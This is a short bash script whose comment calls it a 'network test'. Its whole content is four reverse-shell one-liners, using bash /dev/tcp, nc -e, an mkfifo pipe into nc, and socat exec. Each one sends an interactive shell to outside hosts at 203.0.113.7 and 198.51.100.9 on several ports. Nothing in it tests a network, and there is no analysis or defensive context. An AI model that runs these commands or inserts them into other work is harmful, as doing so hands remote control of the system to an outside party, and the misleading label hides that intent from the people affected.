#!/bin/bash
# network test
bash -i >& /dev/tcp/203.0.113.7/4444 0>&1
nc -e /bin/sh 198.51.100.9 9001
rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.7 4445 > /tmp/f
socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:203.0.113.7:4446
